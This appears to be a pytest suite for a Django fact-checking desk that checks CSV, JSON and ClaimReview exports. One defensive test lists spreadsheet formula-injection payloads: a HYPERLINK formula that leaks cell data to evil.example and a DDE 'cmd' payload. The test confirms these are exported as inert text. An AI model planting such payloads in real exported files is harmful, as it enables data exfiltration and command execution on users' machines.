"""Exports hold exactly what the filtered list shows, in CSV, JSON and ClaimReview."""

import csv
import io
import json

import pytest
from django.core.management import CommandError, call_command
from django.urls import reverse

from claims.models import Claim

from .conftest import make_claim, make_source, make_speaker, rating

pytestmark = pytest.mark.django_db


@pytest.fixture
def desk(client, editor, seed):
    client.force_login(editor)
    return client


def listed_ids(client, params):
    """Every claim the list shows for ``params``, over all its pages."""
    ids, page = [], 1
    while True:
        response = client.get(reverse("claims:claim-list"), {**params, "page": page})
        ids += [row["pk"] for row in response.context["page"].object_list]
        if not response.context["page"].has_next():
            return ids
        page += 1


def body(response):
    return b"".join(response.streaming_content).decode("utf-8")


FILTERS = [{"speaker": "Putin"}, {"status": ["new"], "kind": "paraphrase"}, {"q": "denied"}, {}]


@pytest.mark.parametrize("params", FILTERS, ids=str)
def test_csv_and_json_hold_exactly_the_claims_the_list_shows(desk, params):
    expected = listed_ids(desk, params)
    csv_response = desk.get(reverse("claims:claim-export", args=["csv"]), params)
    assert csv_response["Content-Disposition"] == 'attachment; filename="claims.csv"'
    rows = list(csv.DictReader(io.StringIO(body(csv_response))))
    assert [int(r["id"]) for r in rows] == expected
    json_rows = json.loads(body(desk.get(reverse("claims:claim-export", args=["json"]), params)))
    assert [r["id"] for r in json_rows] == expected


@pytest.mark.parametrize("order", ["claimed", "-claimed"])
@pytest.mark.parametrize("where", ["desk", "command"])
def test_an_export_is_in_the_lists_order_undated_claims_last(desk, seed, tmp_path, order, where):
    """Each database puts empty dates at one end of its own; the list puts them last
    either way (pagination.in_key_order), and so must the export of that list."""
    undated = [seed["putin-came-here"].pk, seed["us-accusation"].pk]
    Claim.objects.filter(pk__in=undated).update(claimed_on=None)
    Claim.objects.exclude(pk__in=undated).update(claimed_on="2024-05-01")
    expected = listed_ids(desk, {"order": order})
    assert sorted(expected[-2:]) == sorted(undated)
    if where == "desk":
        exported = body(desk.get(reverse("claims:claim-export", args=["json"]), {"order": order}))
    else:
        out = tmp_path / "claims.json"
        call_command("export_claims", "--format", "json", f"--order={order}", "-o", str(out))
        exported = out.read_text(encoding="utf-8")
    assert [r["id"] for r in json.loads(exported)] == expected


def test_exported_rows_carry_speaker_relay_source_span_status_and_verdict(desk, seed):
    claim = seed["putin-came-here"]
    claim.source.url = "https://example.org/vostochny"
    claim.source.save()
    Claim.objects.filter(pk=claim.pk).update(status="reviewed", rating=rating("Mostly true"))
    row = next(
        r
        for r in json.loads(
            body(desk.get(reverse("claims:claim-export", args=["json"]), {"speaker": "Putin"}))
        )
        if r["id"] == claim.pk
    )
    assert row["statement"] == "That’s why we have come here."
    assert (row["speaker"], row["relayed_by"]) == ("Vladimir Putin", "Russian state media")
    assert row["source_url"] == "https://example.org/vostochny"
    assert (row["span_start"], row["span_end"]) == (claim.span_start, claim.span_end)
    assert (row["status"], row["verdict"]) == ("reviewed", "Mostly true")
    csv_row = next(
        r
        for r in csv.DictReader(
            io.StringIO(
                body(desk.get(reverse("claims:claim-export", args=["csv"]), {"speaker": "Putin"}))
            )
        )
        if r["id"] == str(claim.pk)
    )
    assert csv_row["relayed_by"] == "Russian state media" and csv_row["verdict"] == "Mostly true"


def test_the_claimreview_export_holds_only_published_claims(desk, seed, editor):
    claim = seed["us-accusation"]
    Claim.objects.filter(pk=claim.pk).update(
        status="reviewed",
        rating=rating("Misleading"),
        claim_reviewed="North Korea provides arms to Russia.",
        explanation="<p>Officials offered no evidence.</p>",
    )
    claim.refresh_from_db()
    desk.post(reverse("claims:claim-publish", args=[claim.pk]), {"version": claim.version})
    reviews = json.loads(body(desk.get(reverse("claims:claim-export", args=["claimreview"]))))
    assert len(reviews) == 1
    assert reviews[0]["@type"] == "ClaimReview"
    assert reviews[0]["claimReviewed"] == "North Korea provides arms to Russia."
    assert reviews[0]["url"] == "http://testserver" + claim.get_public_url()


def test_an_unknown_export_format_is_404(desk):
    assert desk.get(reverse("claims:claim-export", args=["xlsx"])).status_code == 404


def test_the_command_exports_with_the_same_filters(seed, tmp_path, capsys):
    call_command("export_claims", "--format", "json", "--speaker", "Lim")
    rows = json.loads(capsys.readouterr().out)
    assert {r["id"] for r in rows} == {seed["seoul-monitoring"].pk, seed["no-un-member"].pk}
    out = tmp_path / "claims.csv"
    call_command("export_claims", "--status", "new", "--kind", "direct", "-o", str(out))
    ids = {int(r["id"]) for r in csv.DictReader(out.open(encoding="utf-8"))}
    assert ids == {seed[k].pk for k in ("putin-came-here", "putin-no-hurry", "no-un-member")}


def test_the_command_refuses_a_bad_filter(seed):
    with pytest.raises(CommandError, match="--claimed-after/--claimed-before: Enter a valid date"):
        call_command("export_claims", "--claimed-after", "yesterday")


HOSTILE = [
    '=HYPERLINK("https://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
]


def test_csv_cells_that_would_start_a_formula_are_written_as_text(client, editor):
    # A Contributor controls the statement (and so the speaker, cue, title) through a plain
    # .txt import; a spreadsheet must show these as text, never run them.
    client.force_login(editor)
    article = " | ".join(HOSTILE)
    source = make_source(title="=1+1 imported.txt", body=article)
    for words in HOSTILE:
        make_claim(source=source, text=words, speaker=make_speaker(name="@" + words[:20]))
    rows = list(csv.DictReader(io.StringIO(body(client.get(export_url("csv"))))))
    assert len(rows) == len(HOSTILE)
    cells = [cell for row in rows for cell in row.values()]
    assert not [cell for cell in cells if cell[:1] in {"=", "+", "-", "@"}]
    assert {row["statement"] for row in rows} == {"'" + words for words in HOSTILE}
    assert {row["source_title"] for row in rows} == {"'=1+1 imported.txt"}
    # Numbers stay numbers, and JSON keeps the exact words.
    assert all(row["span_start"].isdigit() for row in rows)
    exact = {row["statement"] for row in json.loads(body(client.get(export_url("json"))))}
    assert exact == set(HOSTILE)


def export_url(fmt):
    return reverse("claims:claim-export", args=[fmt])


def test_the_excel_variant_starts_with_a_byte_order_mark(desk):
    excel = desk.get(export_url("excel"))
    assert excel["Content-Disposition"] == 'attachment; filename="claims-excel.csv"'
    raw = b"".join(excel.streaming_content)
    assert raw.startswith(b"\xef\xbb\xbfid,statement,")
    assert "“" in raw.decode("utf-8-sig") or "’" in raw.decode("utf-8-sig")
    plain = b"".join(desk.get(export_url("csv")).streaming_content)
    assert plain.startswith(b"id,statement,")
    assert raw[3:] == plain


@pytest.mark.parametrize(
    ("params", "named"),
    [
        ({"speeker": "Putin"}, "speeker"),
        ({"speaker": "Putin", "page": "2"}, "page"),
        ({"claimed_after": "yesterday"}, "claimed: Enter a valid date."),
        ({"verdict": "9999"}, "verdict: Select a valid choice."),
        ({"status": "nonsense"}, "status: Select a valid choice."),
    ],
)
@pytest.mark.parametrize("fmt", ["csv", "json", "claimreview", "excel"])
def test_an_export_refuses_parameters_it_cannot_apply_and_names_them(desk, fmt, params, named):
    response = desk.get(export_url(fmt), params)
    assert response.status_code == 400
    text = response.content.decode()
    assert text.startswith("Nothing exported.") and named in text
    assert "Accepted parameters: assigned, claimed_after, claimed_before" in text


def test_a_valid_filter_still_exports_just_what_it_selects(desk, seed):
    rows = json.loads(body(desk.get(export_url("json"), {"speaker": "Putin"})))
    assert rows and all(row["speaker"] == "Vladimir Putin" for row in rows)


def test_the_claimreview_export_reads_its_claims_in_the_same_queries_however_many(desk, editor):
    """Each review names its claim's speaker, article and verdict: read with the claims
    (exports.claimreview_rows), never one query per claim."""
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    from .conftest import publish

    def add(n):
        for _ in range(n):
            publish(make_claim(), editor, "Mixed")

    def queries():
        with CaptureQueriesContext(connection) as ctx:
            reviews = json.loads(body(desk.get(export_url("claimreview"), {"q": "bridge"})))
        assert reviews and all(r["reviewRating"]["alternateName"] == "Mixed" for r in reviews)
        return len(ctx), len(reviews)

    add(2)
    few, listed = queries()
    add(10)
    assert queries() == (few, listed + 10)


@pytest.mark.parametrize("fmt", ["csv", "json"])
def test_an_export_reads_its_rows_in_the_same_queries_however_many(desk, editor, fmt):
    """Rows are read as plain values in chunks (representation.values_of): no query per
    row, whatever relations the claims have, in a 100,000-row export."""
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    def add(n):
        for _ in range(n):
            make_claim(
                relayed_by=make_speaker(),
                rating=rating("False"),
                assigned_to=editor,
                claim_reviewed="Checked as this",
                cue="said",
                claimed_on="2024-05-01",
                status=Claim.Status.IN_REVIEW,
            )

    def queries():
        with CaptureQueriesContext(connection) as ctx:
            response = desk.get(reverse("claims:claim-export", args=[fmt]), {"q": "bridge"})
            exported = body(response)
        assert "Checked as this" in exported and editor.username in exported
        return len(ctx)

    add(2)
    few = queries()
    add(10)
    assert queries() == few
